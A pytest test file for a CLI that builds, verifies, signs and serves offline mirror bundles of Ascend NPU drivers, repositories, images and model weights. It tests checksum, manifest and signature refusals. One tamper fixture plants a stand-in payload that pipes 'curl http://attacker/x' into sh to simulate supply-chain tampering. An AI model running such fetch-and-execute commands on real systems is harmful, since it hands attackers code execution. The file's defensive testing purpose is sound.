"""``provision bundle build/verify/serve/unpack`` as a user runs them, on a small fake mirror folder: the
archive and its manifest, resume, the refusals (a corrupted file, a missing one, a manifest that does not
match its checksum), completeness for an inventory, the HTTP server and the signature."""

from __future__ import annotations

import functools
import gzip
import hashlib
import http.server
import io
import json
import shutil
import subprocess
import tarfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from provision.ascend import lock
from provision.bundle import serve
from provision.bundle.manifest import gpg_home
from provision.bundle.repos import ensure_key, stop_agent
from tests.helpers import TEST_API_KEY, gnupg_home, run_cli, write_tree

pytestmark = pytest.mark.unit

LOCKED = lock.default_stack()
IMAGE = "registry.lan/vllm-ascend:test"
RUN_FILES = [
    f"Ascend-hdk-910b-npu-driver_{LOCKED['driver']}_linux-aarch64.run",
    f"Ascend-hdk-910b-npu-firmware_{LOCKED['firmware']}.run",
    f"Ascend-cann-toolkit_{LOCKED['cann']}_linux-aarch64.run",
    f"Ascend-cann-910b-ops_{LOCKED['cann']}_linux-aarch64.run",
    f"Ascend-cann-nnal_{LOCKED['nnal']}_linux-aarch64.run",
    f"Ascend-docker-runtime_{LOCKED['docker_runtime']}_linux-aarch64.run",
]
DRIVER = RUN_FILES[0]
FACTS = "bootstrap_facts: {{arch: aarch64, os: {{id: {os}, version: '{version}'}}}}\n"


def sums(folder: Path) -> None:
    lines = [
        f"{hashlib.sha256(p.read_bytes()).hexdigest()}  {p.name}\n"
        for p in sorted(folder.iterdir())
        if p.name != "sha256sums.txt"
    ]
    (folder / "sha256sums.txt").write_text("".join(lines))


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def rpm_repo(repo: Path) -> None:
    """One package and createrepo_c's metadata for it, in its layout (repomd.xml naming a gzip'd
    primary.xml, as the simulator's mirror has them from createrepo_c)."""
    (repo / "Packages").mkdir(parents=True)
    rpm = repo / "Packages/dkms-3.0-1.noarch.rpm"
    rpm.write_bytes(b"rpm" * 100)
    primary = gzip.compress(
        (
            '<?xml version="1.0" encoding="UTF-8"?>\n<metadata xmlns="http://linux.duke.edu/metadata/common" '
            'xmlns:rpm="http://linux.duke.edu/metadata/rpm" packages="1">\n<package type="rpm">\n'
            f'  <name>dkms</name>\n  <checksum type="sha256" pkgid="YES">{sha(rpm.read_bytes())}</checksum>\n'
            f'  <location href="Packages/{rpm.name}"/>\n</package>\n</metadata>\n'
        ).encode(),
        mtime=0,
    )
    name = f"repodata/{sha(primary)}-primary.xml.gz"
    (repo / "repodata").mkdir()
    (repo / name).write_bytes(primary)
    (repo / "repodata/repomd.xml").write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<repomd xmlns="http://linux.duke.edu/metadata/repo" '
        'xmlns:rpm="http://linux.duke.edu/metadata/rpm">\n  <data type="primary">\n'
        f'    <checksum type="sha256">{sha(primary)}</checksum>\n    <location href="{name}"/>\n'
        "  </data>\n</repomd>\n"
    )


def docker_save_tar(path: Path, tag: str) -> Path:
    """A tarball in ``docker save``'s layout (manifest.json with RepoTags, a config, a layer)."""
    config = json.dumps({"architecture": "arm64", "os": "linux"}).encode()
    digest = hashlib.sha256(config).hexdigest()
    members = {
        "manifest.json": json.dumps(
            [{"Config": f"blobs/sha256/{digest}", "RepoTags": [tag], "Layers": ["blobs/sha256/00"]}]
        ).encode(),
        f"blobs/sha256/{digest}": config,
        "blobs/sha256/00": b"layer bytes",
    }
    with tarfile.open(path, "w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


@pytest.fixture
def mirror(tmp_path: Path) -> Path:
    return make_mirror(tmp_path)


def make_mirror(tmp_path: Path) -> Path:
    """A mirror folder laid out as the simulator's: ascend/, openeuler/, ubuntu/, images/, models/."""
    root = tmp_path / "mirror"
    ascend = root / "ascend"
    ascend.mkdir(parents=True)
    for name in RUN_FILES:
        (ascend / name).write_bytes(f"#!/bin/sh\n# {name}\n".encode() * 64)
    (ascend / "npu-exporter").write_bytes(b"#!/usr/bin/env python3\n")
    sums(ascend)
    for version in ("22.03", "24.03"):
        for section in ("OS", "everything", "update", "EPOL/main"):
            rpm_repo(root / f"openeuler/openEuler-{version}-LTS-SP1/{section}/aarch64")
    ubuntu = root / "ubuntu"
    (ubuntu / "pool/main").mkdir(parents=True)
    deb = ubuntu / "pool/main/dkms_2.8_all.deb"
    deb.write_bytes(b"deb" * 100)
    for suite in ("jammy", "jammy-updates", "jammy-security"):
        index = ubuntu / f"dists/{suite}/main/binary-arm64"
        index.mkdir(parents=True)
        # dpkg-scanpackages' stanza fields the bundle reads (the simulator's mirror writes them with it).
        listed = f"Package: dkms\nFilename: pool/main/{deb.name}\nSHA256: {sha(deb.read_bytes())}\n\n"
        (index / "Packages").write_text(listed if suite == "jammy" else "")
        text = (index / "Packages").read_bytes()
        (ubuntu / f"dists/{suite}/Release").write_text(
            f"Suite: {suite}\nSHA256:\n {sha(text)} {len(text):>8} main/binary-arm64/Packages\n"
        )
    (ubuntu / "pool/main/unlisted_1.0_amd64.deb").write_bytes(b"not for arm64")
    (ubuntu / "dists/jammy/main/binary-amd64").mkdir()
    (ubuntu / "dists/jammy/main/binary-amd64/Packages").write_text(
        "Filename: pool/main/unlisted_1.0_amd64.deb\n"
    )
    (ubuntu / "archive-keyring.asc").write_text("-----BEGIN PGP PUBLIC KEY BLOCK-----\n")
    (root / "images").mkdir()
    docker_save_tar(root / "images/vllm-ascend_test.tar", IMAGE)
    sums(root / "images")
    (root / "models").mkdir()
    (root / "models/small.tar").write_bytes(b"weights" * 100)
    sums(root / "models")
    return root


@pytest.fixture
def inventory(tmp_path: Path) -> Path:
    return write_tree(
        tmp_path / "site",
        {
            "inventory.ini": "[npu_nodes]\nnode1\nnode2\n",
            "host_vars/node1.yml": FACTS.format(os="openEuler", version="22.03"),
            "host_vars/node2.yml": FACTS.format(os="ubuntu", version="22.04"),
            "group_vars/npu_nodes.yml": f"""\
                vllm_serve_api_key: {TEST_API_KEY}
                vllm_serve_image: {IMAGE}
                npu_pools_list: [{{name: chat, devices: [0], port: 8000, profile: small}}]
                vllm_serve_profiles:
                  small: {{model: /data/models/small, model_url: "http://mirror.lan/models/small.tar"}}
                """,
        },
    )


def build(
    monkeypatch: pytest.MonkeyPatch, inventory: Path, output: Path, mirror: Path | str, *extra: str
) -> int:
    args = ["bundle", "build", str(inventory), "-o", str(output), "--from-mirror", str(mirror), *extra]
    return run_cli(args, monkeypatch)


@pytest.fixture
def bundle(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    inventory: Path,
    mirror: Path,
    capsys: pytest.CaptureFixture[str],
) -> Path:
    output = tmp_path / "rack.tar"
    assert build(monkeypatch, inventory, output, mirror) == 0
    capsys.readouterr()
    return output


def members(archive: Path) -> dict[str, bytes]:
    with tarfile.open(archive) as tar:
        return {m.name: tar.extractfile(m).read() for m in tar if m.isfile()}  # type: ignore[union-attr]


def rewrite(archive: Path, changes: dict[str, bytes | None]) -> None:
    """The archive again with members replaced (bytes) or left out (None)."""
    files = members(archive)
    for name, data in changes.items():
        if data is None:
            files.pop(name)
        else:
            files[name] = data
    with tarfile.open(archive, "w") as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))


# ------------------------------------------------------------------------------------------ build


def test_build_writes_one_archive_with_a_manifest_of_every_file(
    bundle: Path, mirror: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    files = members(bundle)
    names = list(files)
    assert names[:2] == ["manifest.json", "manifest.json.sha256"]  # first: a reader checks them first
    manifest = json.loads(files["manifest.json"])
    assert manifest["format"] == "provision-bundle/1"
    listed = {entry["path"]: entry for entry in manifest["files"]}
    assert set(listed) == set(names) - {"manifest.json", "manifest.json.sha256"}
    for path, entry in listed.items():
        assert entry["sha256"] == hashlib.sha256(files[path]).hexdigest()
        assert entry["size"] == len(files[path])
    driver = listed[f"ascend/{DRIVER}"]
    assert (driver["kind"], driver["version"], driver["source"]) == (
        "run-file",
        LOCKED["driver"],
        str(mirror / "ascend"),
    )
    # Only what the nodes need: 22.03 repos (not 24.03), arm64 debs, no exporter (monitoring is off).
    assert "openeuler/openEuler-22.03-LTS-SP1/EPOL/main/aarch64/repodata/repomd.xml" in listed
    assert not any(p.startswith("openeuler/openEuler-24.03") for p in listed)
    assert "ubuntu/pool/main/dkms_2.8_all.deb" in listed
    assert "ubuntu/pool/main/unlisted_1.0_amd64.deb" not in listed
    assert "ubuntu/dists/jammy/main/binary-arm64/Packages" in listed
    assert "ubuntu/dists/jammy/main/binary-amd64/Packages" not in listed
    assert "ascend/npu-exporter" not in listed
    assert listed["images/vllm-ascend_test.tar"]["version"] == IMAGE
    assert listed["models/small.tar"]["kind"] == "weights"
    # The roles check every file against a sha256sums.txt beside it: the bundle's own.
    ascend_sums = files["ascend/sha256sums.txt"].decode()
    assert ascend_sums == "".join(
        f"{hashlib.sha256(files[f'ascend/{n}']).hexdigest()}  {n}\n" for n in sorted(RUN_FILES)
    )
    assert hashlib.sha256(files["manifest.json"]).hexdigest() in files["manifest.json.sha256"].decode()
    assert [n["host"] for n in manifest["nodes"]] == ["node1", "node2"]


def test_a_rerun_reuses_the_work_folder_and_copies_nothing(
    bundle: Path,
    inventory: Path,
    mirror: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    first = members(bundle)["manifest.json"]
    assert build(monkeypatch, inventory, bundle, mirror) == 0
    out = capsys.readouterr().out
    total = len(json.loads(first)["files"]) - 3  # the three sha256sums.txt are written, not copied
    assert f"0 copied, {total} reused from {bundle}.work" in out
    # A file damaged in the work folder is copied again, and only that one.
    (Path(f"{bundle}.work") / "ascend" / DRIVER).write_bytes(b"half a file")
    assert build(monkeypatch, inventory, bundle, mirror) == 0
    assert f"1 copied, {total - 1} reused" in capsys.readouterr().out
    assert run_cli(["bundle", "verify", "--allow-unsigned", str(bundle)], monkeypatch) == 0


def test_a_run_file_that_does_not_match_its_checksum_is_refused(
    tmp_path: Path,
    inventory: Path,
    mirror: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    (mirror / "ascend" / DRIVER).write_bytes(b"truncated download")
    output = tmp_path / "rack.tar"
    assert build(monkeypatch, inventory, output, mirror) == 2
    err = capsys.readouterr().err
    assert f"{mirror / 'ascend' / DRIVER}: sha256 " in err
    assert "does not match" in err and "it is corrupted or not the vendor's file" in err
    assert str(mirror / "ascend" / "sha256sums.txt") in err
    assert not output.exists()


def test_a_missing_run_file_is_refused_naming_it(
    tmp_path: Path,
    inventory: Path,
    mirror: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    toolkit = RUN_FILES[2]
    (mirror / "ascend" / toolkit).unlink()
    vendor = tmp_path / "vendor"
    vendor.mkdir()
    output = tmp_path / "rack.tar"
    assert build(monkeypatch, inventory, output, mirror, "--run-files", str(vendor)) == 2
    err = capsys.readouterr().err
    assert (
        f"ascend/{toolkit}: not found (CANN toolkit {LOCKED['cann']}); "
        f"looked in {vendor}, {mirror / 'ascend'}" in err
    )
    assert not output.exists()


def test_one_npu_lines_files_are_enough_and_none_is_refused_naming_every_line(
    tmp_path: Path,
    inventory: Path,
    mirror: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The inventory leaves the NPU line to each node's PCI bus: the A2 files alone make a bundle (the
    other lines' are named as left out); no line's driver at all is refused, naming each line's file."""
    d = LOCKED["driver"]
    assert build(monkeypatch, inventory, tmp_path / "rack.tar", mirror) == 0
    err = capsys.readouterr().err
    assert (
        f"not bundled (optional): NPU driver {d} (aarch64) of the other NPU lines: "
        f"Atlas-A3-hdk-npu-driver_{d}_linux-aarch64.run, Ascend-hdk-310p-npu-driver_{d}_linux-aarch64.run "
        f"(the bundle has {DRIVER})"
    ) in err

    (mirror / "ascend" / DRIVER).unlink()
    output = tmp_path / "none.tar"
    assert build(monkeypatch, inventory, output, mirror) == 2
    err = capsys.readouterr().err
    assert (
        f"NPU driver {d} (aarch64): none of {DRIVER}, Atlas-A3-hdk-npu-driver_{d}_linux-aarch64.run, "
        f"Ascend-hdk-310p-npu-driver_{d}_linux-aarch64.run found" in err
    )
    assert "set ascend_driver_chip / cann_chip in the inventory" in err
    assert not output.exists()


def test_run_files_from_the_vendor_folder_need_a_checksum(
    tmp_path: Path,
    inventory: Path,
    mirror: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    vendor = tmp_path / "vendor"
    vendor.mkdir()
    (vendor / DRIVER).write_bytes(b"the vendor driver")
    assert build(monkeypatch, inventory, tmp_path / "rack.tar", mirror, "--run-files", str(vendor)) == 2
    err = capsys.readouterr().err
    # The mirror's sha256sums.txt names the file, with another sha256: the vendor copy is refused.
    assert (
        f"{vendor / DRIVER}: sha256 {hashlib.sha256(b'the vendor driver').hexdigest()} does not match" in err
    )
    shutil.rmtree(mirror / "ascend")
    assert build(monkeypatch, inventory, tmp_path / "rack.tar", mirror, "--run-files", str(vendor)) == 2
    err = capsys.readouterr().err
    assert f"{vendor / DRIVER}: no sha256 to check it against: list it in {vendor / 'sha256sums.txt'}" in err
    assert "or pin it in ascend_driver_checksums" in err


def test_a_run_file_pinned_by_the_lock_must_match_the_pin_whatever_the_mirror_lists(
    tmp_path: Path,
    inventory: Path,
    mirror: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    from provision.ascend import lock

    vendor = "0" * 64  # what the vendor publishes for DRIVER, in this test
    monkeypatch.setattr(lock, "sha256_pins", lambda: {DRIVER: vendor})
    # The mirror's sha256sums.txt agrees with its own copy of the file: it does not matter.
    served = sha((mirror / "ascend" / DRIVER).read_bytes())
    assert build(monkeypatch, inventory, tmp_path / "rack.tar", mirror) == 2
    err = capsys.readouterr().err
    assert (
        f"{mirror / 'ascend' / DRIVER}: sha256 {served} does not match {vendor} (the version lock, "
        "provision/data/versions.yml): it is corrupted or not the vendor's file"
    ) in err
    assert not (tmp_path / "rack.tar").exists()
    # The inventory's pin wins over the lock's (whoever writes the inventory vouches for its file).
    with (inventory.parent / "group_vars" / "npu_nodes.yml").open("a") as group_vars:
        group_vars.write(f"ascend_driver_checksums: {{'{DRIVER}': '{served}'}}\n")
    assert build(monkeypatch, inventory, tmp_path / "rack.tar", mirror) == 0


def test_an_image_nobody_gave_is_refused(
    tmp_path: Path,
    inventory: Path,
    mirror: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    shutil.rmtree(mirror / "images")
    other = docker_save_tar(tmp_path / "other.tar", "other:1")
    assert build(monkeypatch, inventory, tmp_path / "rack.tar", mirror, "--image", str(other)) == 2
    err = capsys.readouterr().err
    assert f"images/vllm-ascend_test.tar: no image {IMAGE} (serving image (vllm_serve_image))" in err
    assert f"--image {other}: holds other:1, which no node needs (needed: {IMAGE})" in err


def test_missing_weights_are_left_out_saying_so(
    tmp_path: Path,
    inventory: Path,
    mirror: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    shutil.rmtree(mirror / "models")
    assert build(monkeypatch, inventory, tmp_path / "rack.tar", mirror) == 0
    err = capsys.readouterr().err
    assert "not bundled (optional): models/small.tar (weights of profile small)" in err
    assert (
        run_cli(
            ["bundle", "verify", "--allow-unsigned", str(tmp_path / "rack.tar"), "-i", str(inventory)],
            monkeypatch,
        )
        == 1
    )
    assert "node1: models/small.tar (weights of profile small)" in capsys.readouterr().err


def test_bad_output_names_and_source_folders_are_bad_input(
    tmp_path: Path,
    inventory: Path,
    mirror: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert build(monkeypatch, inventory, tmp_path / "rack.zip", mirror) == 2
    assert "the bundle's name must end in .tar, .tar.gz, .tgz" in capsys.readouterr().err
    assert build(monkeypatch, inventory, tmp_path / "rack.tar", tmp_path / "nowhere") == 2
    assert f"--from-mirror {tmp_path / 'nowhere'}: not a folder" in capsys.readouterr().err


def test_gzip_archive(
    tmp_path: Path,
    inventory: Path,
    mirror: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    output = tmp_path / "rack.tar.gz"
    assert build(monkeypatch, inventory, output, mirror) == 0
    assert output.read_bytes()[:2] == b"\x1f\x8b"
    assert run_cli(["bundle", "verify", "--allow-unsigned", str(output)], monkeypatch) == 0


# ------------------------------------------------------------------------------------------ verify


def test_verify_accepts_an_intact_bundle_and_checks_completeness(
    bundle: Path, inventory: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert (
        run_cli(["bundle", "verify", "--allow-unsigned", str(bundle), "-i", str(inventory)], monkeypatch) == 0
    )
    out = capsys.readouterr().out
    assert f"{bundle}: ok, " in out and "files match the manifest, not signed" in out
    assert f"{bundle}: complete for {inventory} (2 node(s))" in out


def test_verify_names_what_a_node_the_bundle_was_not_built_for_lacks(
    bundle: Path, inventory: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (inventory.parent / "host_vars" / "node2.yml").write_text(
        "bootstrap_facts: {arch: aarch64, os: {id: openEuler, version: '24.03'}}\nmonitoring_enabled: true\n"
    )
    assert (
        run_cli(["bundle", "verify", "--allow-unsigned", str(bundle), "-i", str(inventory)], monkeypatch) == 1
    )
    err = capsys.readouterr().err
    assert f"{bundle}: incomplete for {inventory}:" in err
    assert "node2: openeuler/openEuler-24.03-*/OS/aarch64 (openEuler 24.03 OS repository (aarch64))" in err
    assert "node2: ascend/npu-exporter (NPU-Exporter (monitoring_enabled))" in err
    assert "node1:" not in err


def test_a_corrupted_file_is_refused_naming_it(
    bundle: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    rewrite(bundle, {f"ascend/{DRIVER}": b"flipped bits"})
    assert run_cli(["bundle", "verify", "--allow-unsigned", str(bundle)], monkeypatch) == 1
    err = capsys.readouterr().err
    assert f"{bundle}: refused, 1 problem(s):" in err
    assert (
        f"ascend/{DRIVER}: corrupted: sha256 {hashlib.sha256(b'flipped bits').hexdigest()} (12 bytes)" in err
    )


def test_a_missing_file_and_an_unlisted_one_are_refused(
    bundle: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    rewrite(bundle, {"images/vllm-ascend_test.tar": None, "ascend/extra.run": b"smuggled"})
    assert run_cli(["bundle", "verify", "--allow-unsigned", str(bundle)], monkeypatch) == 1
    err = capsys.readouterr().err
    assert (
        "images/vllm-ascend_test.tar: missing (the manifest lists it: image registry.lan/vllm-ascend:test)"
        in err
    )
    assert "ascend/extra.run: not in the manifest" in err


def test_a_manifest_that_does_not_match_its_checksum_is_refused(
    bundle: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    manifest = json.loads(members(bundle)["manifest.json"])
    manifest["files"] = [e for e in manifest["files"] if e["path"] != f"ascend/{DRIVER}"]
    rewrite(bundle, {"manifest.json": json.dumps(manifest).encode(), f"ascend/{DRIVER}": None})
    assert run_cli(["bundle", "verify", "--allow-unsigned", str(bundle)], monkeypatch) == 1
    err = capsys.readouterr().err
    assert f"{bundle}: manifest.json does not match manifest.json.sha256" in err
    assert "the manifest was changed or damaged" in err


def test_not_a_bundle_is_bad_input(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run_cli(["bundle", "verify", "--allow-unsigned", str(tmp_path / "absent.tar")], monkeypatch) == 2
    assert f"{tmp_path / 'absent.tar'}: no such bundle" in capsys.readouterr().err
    (tmp_path / "text.tar").write_text("hello")
    assert run_cli(["bundle", "verify", "--allow-unsigned", str(tmp_path / "text.tar")], monkeypatch) == 2
    assert f"{tmp_path / 'text.tar'}: not a bundle archive (tar)" in capsys.readouterr().err
    other = docker_save_tar(tmp_path / "image.tar", "x:1")
    assert run_cli(["bundle", "verify", "--allow-unsigned", str(other)], monkeypatch) == 2
    assert (
        f"{other}: not a provision bundle: its manifest.json is not a bundle manifest"
        in capsys.readouterr().err
    )


# ------------------------------------------------------------------------------------------ unpack, serve


def test_unpack_verifies_and_refuses_a_used_folder(
    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    dest = tmp_path / "www"
    assert run_cli(["bundle", "unpack", "--allow-unsigned", str(bundle), str(dest)], monkeypatch) == 0
    assert (dest / "ascend" / DRIVER).read_bytes() == members(bundle)[f"ascend/{DRIVER}"]
    assert run_cli(["bundle", "verify", "--allow-unsigned", str(dest)], monkeypatch) == 0
    assert run_cli(["bundle", "unpack", "--allow-unsigned", str(bundle), str(dest)], monkeypatch) == 2
    assert f"{dest}: exists and is not an empty folder" in capsys.readouterr().err
    (dest / "ascend" / DRIVER).write_bytes(b"edited on the server")
    assert run_cli(["bundle", "verify", "--allow-unsigned", str(dest)], monkeypatch) == 1
    assert f"ascend/{DRIVER}: corrupted" in capsys.readouterr().err


def test_the_server_answers_a_get_for_a_file(
    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    dest = tmp_path / "www"
    assert run_cli(["bundle", "unpack", "--allow-unsigned", str(bundle), str(dest)], monkeypatch) == 0
    server = serve.open_server(dest, "127.0.0.1", 0)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        port = server.server_address[1]
        answer = httpx.get(f"http://127.0.0.1:{port}/ascend/{DRIVER}", timeout=10)
        assert answer.status_code == 200
        assert answer.content == (dest / "ascend" / DRIVER).read_bytes()
        sums_answer = httpx.get(f"http://127.0.0.1:{port}/ascend/sha256sums.txt", timeout=10)
        assert hashlib.sha256(answer.content).hexdigest() + f"  {DRIVER}" in sums_answer.text
        # No folder is listed: neither the root, nor a folder with or without its slash (no redirect to
        # a listing), nor one holding an index.html (which the standard handler would serve instead).
        (dest / "models" / "index.html").write_text("<a href=small.tar>")
        for folder in ("", "ascend/", "ascend", "openeuler/", "models/"):
            listing = httpx.get(f"http://127.0.0.1:{port}/{folder}", timeout=10)
            assert listing.status_code == 404, (folder, listing.status_code)
            assert DRIVER not in listing.text and "small.tar" not in listing.text
            assert "No folder listings" in listing.text
    finally:
        server.shutdown()
        server.server_close()


def test_serve_prints_the_group_vars_then_serves(
    bundle: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    served: list[Path] = []

    def no_loop(self: object) -> None:
        served.append(Path(self.RequestHandlerClass.keywords["directory"]))  # type: ignore[attr-defined]
        raise KeyboardInterrupt  # Ctrl-C: the server stops, the command ends cleanly

    monkeypatch.setattr("http.server.ThreadingHTTPServer.serve_forever", no_loop)
    assert (
        run_cli(
            ["bundle", "serve", "--allow-unsigned", str(bundle), "--bind", "127.0.0.1", "--port", "0"],
            monkeypatch,
        )
        == 0
    )
    out = capsys.readouterr().out
    assert f"serving {bundle} (" in out and " files, verified) on http://127.0.0.1:" in out
    port = out.split("http://127.0.0.1:")[1].split("/")[0]
    for line in (
        f"provision_mirror_url: http://127.0.0.1:{port}/ascend",
        f"openeuler_repos_mirror_url: http://127.0.0.1:{port}/openeuler",
        f"openeuler_repos_apt_mirror_url: http://127.0.0.1:{port}/ubuntu",
        f"openeuler_repos_apt_signed_by: http://127.0.0.1:{port}/ubuntu/archive-keyring.asc",
        f"vllm_serve_image_url: http://127.0.0.1:{port}/images/vllm-ascend_test.tar",
        # the serving image is the runtime's check image too (container_runtime_verify_image's default)
        f"container_runtime_verify_image_url: http://127.0.0.1:{port}/images/vllm-ascend_test.tar",
    ):
        assert line in out
    assert len(served) == 1 and not served[0].exists()  # the unpacked copy is removed afterwards


def test_serve_listens_on_loopback_unless_told(
    bundle: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    bound: list[tuple[str, int]] = []

    def no_loop(self: http.server.ThreadingHTTPServer) -> None:
        bound.append((str(self.server_address[0]), int(self.server_address[1])))
        raise KeyboardInterrupt

    monkeypatch.setattr("http.server.ThreadingHTTPServer.serve_forever", no_loop)
    assert run_cli(["bundle", "serve", "--allow-unsigned", str(bundle), "--port", "0"], monkeypatch) == 0
    out = capsys.readouterr().out
    assert bound[0][0] == "127.0.0.1"
    assert (
        "listening on loopback only: the nodes cannot reach 127.0.0.1; give --bind ADDR to serve them" in out
    )
    args = ["bundle", "serve", "--allow-unsigned", str(bundle), "--port", "0", "--bind", "0.0.0.0"]
    assert run_cli(args, monkeypatch) == 0
    assert bound[1][0] == "0.0.0.0"
    assert "listening on loopback only" not in capsys.readouterr().out


def test_serve_refuses_a_corrupted_bundle_and_serves_nothing(
    bundle: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    opened: list[object] = []
    monkeypatch.setattr(serve, "open_server", lambda *args: opened.append(args))
    rewrite(bundle, {"models/small.tar": b"x"})
    assert run_cli(["bundle", "serve", "--allow-unsigned", str(bundle), "--port", "0"], monkeypatch) == 1
    assert "models/small.tar: corrupted" in capsys.readouterr().err
    assert opened == []


def damage(bundle: Path, how: str) -> str:
    """One corrupted file, one missing file, or a manifest that does not match its checksum; what the
    refusal must say."""
    if how == "corrupted":
        rewrite(bundle, {f"ascend/{DRIVER}": b"flipped bits"})
        return f"ascend/{DRIVER}: corrupted: sha256 {hashlib.sha256(b'flipped bits').hexdigest()}"
    if how == "missing":
        rewrite(bundle, {"models/small.tar": None})
        return "models/small.tar: missing (the manifest lists it"
    manifest = json.loads(members(bundle)["manifest.json"])
    manifest["files"][0]["size"] += 1
    rewrite(bundle, {"manifest.json": json.dumps(manifest).encode()})
    return "manifest.json does not match manifest.json.sha256"


@pytest.mark.parametrize("unpacked", [False, True], ids=["archive", "folder"])
@pytest.mark.parametrize("how", ["corrupted", "missing", "manifest"])
def test_serve_refuses_a_damaged_bundle_naming_the_file_and_opens_no_socket(
    bundle: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    how: str,
    unpacked: bool,
) -> None:
    opened: list[object] = []
    monkeypatch.setattr(serve, "open_server", lambda *args: opened.append(args))
    said = damage(bundle, how)
    target = bundle
    if unpacked:  # a folder the user unpacked (tar -x) and damaged: served in place, so checked in place
        target = tmp_path / "unpacked"
        target.mkdir()
        subprocess.run(["tar", "-xf", str(bundle), "-C", str(target)], check=True)
    before = sorted(p.name for p in bundle.parent.iterdir())
    assert run_cli(["bundle", "serve", "--allow-unsigned", str(target), "--port", "0"], monkeypatch) == 1
    assert said in capsys.readouterr().err
    assert opened == []
    assert sorted(p.name for p in bundle.parent.iterdir()) == before  # no unpacked copy left beside it
    assert run_cli(["bundle", "verify", "--allow-unsigned", str(target)], monkeypatch) == 1
    assert said in capsys.readouterr().err


# ------------------------------------------------------------------------------------------ signature


@pytest.mark.skipif(shutil.which("gpg") is None, reason="gpg is not installed")
def test_a_signed_bundle_verifies_with_the_key_and_not_when_tampered(
    request: pytest.FixtureRequest,
    tmp_path: Path,
    inventory: Path,
    mirror: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    home = gnupg_home(request, tmp_path)
    gpg = ["gpg", "--homedir", str(home), "--batch", "--pinentry-mode", "loopback", "--passphrase", ""]
    subprocess.run([*gpg, "--quick-generate-key", "bundle@test", "ed25519", "sign", "never"], check=True)
    subprocess.run(
        [*gpg, "--armor", "--output", str(tmp_path / "key.asc"), "--export", "bundle@test"], check=True
    )
    output = tmp_path / "rack.tar"
    args = ["--sign-key", "bundle@test", "--gnupg-home", str(home)]
    assert build(monkeypatch, inventory, output, mirror, *args) == 0
    assert "manifest.json.asc" in members(output)
    capsys.readouterr()
    assert run_cli(["bundle", "verify", str(output), "--key", str(tmp_path / "key.asc")], monkeypatch) == 0
    assert "files match the manifest, signed by " in capsys.readouterr().out
    # A manifest and checksum rewritten together: the checksum matches, the signature does not.
    files = members(output)
    manifest = files["manifest.json"].replace(b'"node1"', b'"nodeX"')
    digest = hashlib.sha256(manifest).hexdigest()
    rewrite(
        output, {"manifest.json": manifest, "manifest.json.sha256": f"{digest}  manifest.json\n".encode()}
    )
    assert run_cli(["bundle", "verify", str(output), "--key", str(tmp_path / "key.asc")], monkeypatch) == 1
    assert "manifest.json.asc does not verify manifest.json: bad signature" in capsys.readouterr().err


def tamper_consistently(archive: Path) -> bytes:
    """The attack a checksum cannot catch: a run file replaced, its manifest entry and the manifest's own
    checksum rewritten to match. What the replaced file holds."""
    evil = b"#!/bin/sh\ncurl http://attacker/x | sh\n"
    manifest = json.loads(members(archive)["manifest.json"])
    for entry in manifest["files"]:
        if entry["path"] == f"ascend/{DRIVER}":
            entry["sha256"], entry["size"] = sha(evil), len(evil)
    data = json.dumps(manifest).encode()
    rewrite(
        archive,
        {
            f"ascend/{DRIVER}": evil,
            "manifest.json": data,
            "manifest.json.sha256": f"{sha(data)}  manifest.json\n".encode(),
        },
    )
    return evil


def test_an_unsigned_bundle_is_refused_unless_allowed(
    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    tamper_consistently(bundle)
    refusal = (
        f"{bundle}: not signed (no manifest.json.asc): its checksum catches damage, not a manifest "
        "rewritten with its files. Build it with --sign-key KEY and verify with --key FINGERPRINT, or "
        "accept it with --allow-unsigned"
    )
